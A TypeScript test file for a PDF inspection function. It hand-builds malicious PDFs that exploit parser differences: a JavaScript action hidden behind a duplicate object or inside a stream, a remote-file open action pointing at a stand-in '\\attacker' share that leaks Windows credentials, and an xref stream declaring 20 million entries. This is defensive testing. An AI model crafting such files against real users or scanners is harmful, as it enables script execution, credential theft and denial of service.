import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { testPdf } from '../testing/pdf-files.ts';
import { judgePdf } from './pdf-inspection.ts';
import { GUARD_MS } from '../../core/testing/guard.ts';

// PDFs that pdf-lib, reading front to back, sees differently from Acrobat and pdf.js, which
// follow the cross-reference table.

const PAGES = [
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
];
const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** A PDF of `objects` (numbered 1…) whose xref table gives object n the offset `xref(n, offsets)`. */
function handWritten(objects: [number, string][], xref: (n: number, offsets: number[]) => number): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = new Map<number, number[]>();
  for (const [n, body] of objects) {
    offsets.set(n, [...(offsets.get(n) ?? []), text.length]);
    text += `${n} 0 obj\n${body}\nendobj\n`;
  }
  const size = Math.max(...offsets.keys()) + 1;
  const at = text.length;
  text += `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let n = 1; n < size; n++) text += `${String(xref(n, offsets.get(n) ?? [])).padStart(10, '0')} 00000 n \n`;
  return Buffer.from(`${text}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`, 'latin1');
}

describe('judgePdf against parser differentials', () => {
  it('refuses a script the xref names when a harmless second definition of the object follows it', async () => {
    const pdf = handWritten(
      [[1, PAGES[0]!], [2, PAGES[1]!], [3, PAGES[2]!], [4, SCRIPT], [4, '<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>']],
      (_n, offsets) => offsets[0]!,
    );
    expect(await judgePdf(pdf)).toBe('pdf_script');
  });

  it('refuses a script object inside another stream that only the xref offset reaches', async () => {
    const hidden = `4 0 obj\n${SCRIPT}\nendobj\n`;
    const carrier = `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`;
    const pdf = handWritten([[1, PAGES[0]!], [2, PAGES[1]!], [3, PAGES[2]!], [5, carrier]], (n, offsets) => offsets[0] ?? 0);
    // Object 4 is written only inside object 5's data; point its xref entry there.
    const text = pdf.toString('latin1');
    const patched = text.replace(/(xref\n0 6\n(?:.*\n){4})0000000000 00000 n \n/, `$1${String(text.indexOf('4 0 obj')).padStart(10, '0')} 00000 n \n`);
    expect(patched).not.toBe(text);
    expect(await judgePdf(Buffer.from(patched, 'latin1'))).toBe('pdf_script');
  });

  it('refuses an open action that goes to a file on another host, which leaks Windows credentials', async () => {
    const pdf = handWritten(
      [[1, PAGES[0]!], [2, PAGES[1]!], [3, PAGES[2]!], [4, '<< /Type /Action /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>']],
      (_n, offsets) => offsets[0]!,
    );
    expect(await judgePdf(pdf)).toBe('pdf_script');
  });

  it('keeps the honest files: a plain table, object streams, and an incremental update', async () => {
    const original = await testPdf();
    const root = /\/Root (\d+ \d+ R)/.exec(original.toString('latin1'))![1];
    const update = `99 0 obj\n<< /Producer (update) >>\nendobj\n`;
    const updated = Buffer.concat([original, Buffer.from(
      `${update}xref\n99 1\n${String(original.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 100 /Root ${root} >>\nstartxref\n${original.length + update.length}\n%%EOF\n`, 'latin1')]);
    expect([await judgePdf(await testPdf()), await judgePdf(await testPdf({ objectStreams: true })), await judgePdf(updated)])
      .toEqual([undefined, undefined, undefined]);
  });

  it('refuses within milliseconds a 1.4 KB file whose xref stream declares 20 million entries', async () => {
    const empty = deflateSync(Buffer.alloc(0));
    const base = (await testPdf()).toString('latin1');
    const pdf = Buffer.concat([
      Buffer.from(`${base}99 0 obj\n<< /Type /XRef /Size 20000000 /W [0 0 0] /Filter /FlateDecode /Length ${empty.length} >>\nstream\n`, 'latin1'),
      empty, Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1'),
    ]);
    expect(await judgePdf(pdf)).toBe('unreadable');
    // Before the bound, pdf-lib listed every entry: 57 s and 3.3 GB of memory.
  }, GUARD_MS);
});
